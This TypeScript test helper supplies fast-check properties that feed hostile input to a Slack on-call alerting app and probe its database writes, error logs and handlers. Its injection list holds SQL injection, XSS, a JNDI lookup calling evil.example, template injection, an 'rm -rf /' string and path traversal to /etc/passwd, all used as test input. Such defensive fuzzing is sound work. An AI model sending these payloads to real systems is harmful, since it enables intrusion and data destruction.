/**
 * Shared pieces of the hostile-input properties: the run settings, the case count, the process watch
 * (unhandled rejections, uncaught exceptions), the hostile text arbitraries, and the probes that look at the
 * app (rows written, error-level log lines, handlers still running).
 */
import fc from 'fast-check';
import type { TestApp } from '../support/harness.js';
import { EXAMPLE_POLICY, INTEGRATION_SECRETS } from '../support/fixtures.js';

export const POLICY = EXAMPLE_POLICY;

export const SECRETS = INTEGRATION_SECRETS;

/** Friday 2026-11-20 10:15 UTC: Bob is the backend primary, Carol secondary. */
export const NOW = Date.parse('2026-11-20T10:15:00Z');
export const PEOPLE = ['U0ALICE', 'U0BOB', 'U0CAROL', 'U0DAN', 'U0LEAD', 'U0CTO'];

// ---------------------------------------------------------------------------------------------------------
// Run settings and the case count

const envSeed = process.env.FC_SEED;
/** FC_SEED pins every property to one seed (fast-check prints the seed of a failure either way). */
export const SEED = envSeed !== undefined && envSeed !== '' && Number.isInteger(Number(envSeed)) ? Number(envSeed) : undefined;
if (SEED !== undefined) fc.configureGlobal({ seed: SEED });

let cases = 0;
export const caseCount = () => cases;

/** Call first in every property's predicate: the suite reports how many cases ran (shrinking included). */
export function tally(): void {
  cases += 1;
}

/** fast-check parameters for a property of `numRuns` cases. */
export function runs(numRuns: number): { numRuns: number; seed?: number } {
  return { numRuns, ...(SEED !== undefined ? { seed: SEED } : {}) };
}

// ---------------------------------------------------------------------------------------------------------
// The process: nothing may reject unhandled or throw uncaught while the properties run

const escaped: string[] = [];
const onRejection = (reason: unknown) => escaped.push(`unhandledRejection: ${reason instanceof Error ? reason.stack : String(reason)}`);
const onException = (error: Error) => escaped.push(`uncaughtException: ${error.stack}`);

export function watchProcess(): void {
  process.on('unhandledRejection', onRejection);
  process.on('uncaughtException', onException);
}

export function unwatchProcess(): void {
  process.off('unhandledRejection', onRejection);
  process.off('uncaughtException', onException);
}

/** Whatever escaped since the last call (and forgets it). */
export function escapedSinceLastLook(): string[] {
  return escaped.splice(0);
}

// ---------------------------------------------------------------------------------------------------------
// Hostile text

const INJECTIONS = [
  "'; DROP TABLE alerts;--",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<!channel>',
  '<!here>',
  '@here',
  '@channel',
  '<@U0ALICE>',
  '<@U0X|x>',
  '<#C0ALERTS|alerts>',
  '<!subteam^S0ONCALL>',
  '`rm -rf /`',
  '*bold* _it_ ~strike~',
  '%00',
  '\u0000',
  '\u202e\u2066',
  '../../etc/passwd',
  'null',
  'undefined',
  'NaN',
  '-1',
  '0',
  '1e309',
  '#1',
  '#0',
  '#99999999999999999999',
];

/** Words that are properties of every plain object: a map lookup with them must find nothing. */
export const PROTOTYPE_WORDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'isPrototypeOf',
  '__defineGetter__',
];

export const hostileWord = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS, ...PROTOTYPE_WORDS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-composite', maxLength: 10 }) },
  { weight: 1, arbitrary: fc.constantFrom('"', "'", '""', "''", '"unclosed', "it's", '\\', '\n', '\t', ' ') },
);

/** Long text, from a little over a screen to 100k characters (under every body limit once encoded). */
export const longText = fc.oneof(
  fc.integer({ min: 300, max: 4000 }).map((n) => 'x'.repeat(n)),
  fc
    .tuple(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 8 }), fc.integer({ min: 100, max: 12_000 }))
    .map(([s, n]) => s.repeat(n).slice(0, 100_000)),
  fc.constant('é'.repeat(100_000)),
);

export const hostileText = fc.oneof(
  { weight: 4, arbitrary: fc.array(hostileWord, { maxLength: 6 }).map((w) => w.join(' ')) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: longText },
);

// ---------------------------------------------------------------------------------------------------------
// Probes

/**
 * Rows the app's connection has inserted, updated or deleted since it opened (SQLite's total_changes()): when
 * it is the same after a request as before, the request wrote nothing anywhere.
 */
export function writeCount(t: TestApp): number {
  return (t.store.sqlite.prepare('SELECT total_changes() AS n').get() as { n: number }).n;
}

/** Log lines at error level or above (pino: 50 error, 60 fatal) from `from` on. */
export function errorLines(t: TestApp, from: number): string[] {
  return t.logs.lines.slice(from).filter((line) => {
    try {
      return (JSON.parse(line) as { level?: number }).level! >= 50;
    } catch {
      return true; // not a pino line: something wrote around the logger
    }
  });
}

/**
 * Counts Bolt's handlers in flight (a global middleware wraps the listeners), so a test can wait until the
 * work a handler does after its ack is over, and can tell that a request never reached one.
 */
export class HandlerProbe {
  private running = 0;
  private waiters: Array<() => void> = [];
  reached = 0;

  constructor(t: TestApp) {
    t.app.bolt.use(async ({ next }) => {
      this.reached += 1;
      this.running += 1;
      try {
        await next();
      } finally {
        this.running -= 1;
        if (this.running === 0) for (const w of this.waiters.splice(0)) w();
      }
    });
  }

  /** Resolves when no handler is running. */
  settled(): Promise<void> {
    if (this.running === 0) return Promise.resolve();
    return new Promise((resolve) => this.waiters.push(resolve));
  }
}

/** A 4xx/answer reason that says something: one non-empty line, no stack trace. */
export function isReadableReason(reason: unknown): boolean {
  return (
    typeof reason === 'string' &&
    reason.trim().length > 0 &&
    !/\n\s+at /.test(reason) &&
    !/^\w*Error:/.test(reason) &&
    !reason.includes('[object Object]')
  );
}
